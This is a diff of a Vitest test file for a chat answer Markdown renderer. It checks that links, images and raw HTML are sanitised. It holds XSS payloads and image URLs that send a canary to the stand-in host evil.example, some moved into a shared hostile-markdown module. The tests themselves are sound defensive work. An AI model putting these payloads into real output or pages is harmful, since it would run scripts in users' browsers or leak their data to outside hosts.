@@ -1,6 +1,7 @@
 // @vitest-environment happy-dom
 
 import { afterEach, expect, test, vi } from 'vitest'
+import { HOSTILE, IMAGES, LINKS } from '@/components/chat/testing/hostile-markdown'
 import { cpuMs } from '@/lib/graph/testing/cpu-ms'
 import { h } from '../../element'
 import { MarkdownView } from './render-markdown'
@@ -45,34 +46,17 @@ test('keeps text that only resembles Markdown', () => {
   expect(html('**open and `open')).toBe('<p>**open and `open</p>')
 })
 
-test('links open outside and only to http, https and mailto addresses', () => {
+test.each(LINKS)('%s is a link', (markdown, href) => {
+  expect(render(markdown).querySelector('a')?.getAttribute('href')).toBe(href)
+})
+
+test('links open outside', () => {
   const link = render('[ok](https://example.com/a?b=1 "title")').querySelector('a')
   expect(link?.getAttribute('href')).toBe('https://example.com/a?b=1')
   expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
   expect(link?.getAttribute('target')).toBe('_blank')
   expect(render('see https://example.com/a_b, and <mailto:a@example.com>').querySelectorAll('a')).toHaveLength(2)
 })
-
-const HOSTILE = [
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](data:text/html,<script>1</script>)',
-  '[x](vbscript:1)',
-  '[x](//evil.example)',
-  '[x](/\\evil.example)',
-  '[x](https:\\\\evil.example)',
-  '[x](https://user:password@evil.example)',
-  '<javascript:alert(1)>',
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<iframe srcdoc="<script>1</script>">',
-  '```"><img src=x onerror=alert(1)>\nx\n```',
-  '| <img src=x onerror=1> |\n|---|\n| <script>1</script> |',
-  '**<b onclick=alert(1)>x</b>**',
-]
 
 test('hostile answers produce neither markup nor links', () => {
   for (const markdown of HOSTILE) {
@@ -85,15 +69,11 @@ test('hostile answers produce neither markup nor links', () => {
 
 test('images in an answer cause no request and show their description', () => {
   const fetched = vi.spyOn(globalThis, 'fetch')
-  const images = [
-    '![a](https://evil.example/?d=CANARY)',
-    '![a][ref]\n\n[ref]: https://evil.example/?d=CANARY',
-    '![a](..//evil.example/x.png)',
-    '[![a](https://evil.example/x.png)](javascript:1)',
+  const html = [
     '<img src="https://evil.example/?d=CANARY">',
     '<div style="background:url(https://evil.example)">a</div>',
   ]
-  for (const markdown of images) {
+  for (const markdown of [...IMAGES, ...html]) {
     const element = render(markdown)
     expect(element.querySelector('img, picture, video, audio, [src], [style], [srcset]'), markdown).toBeNull()
     expect(element.textContent).toContain('a')
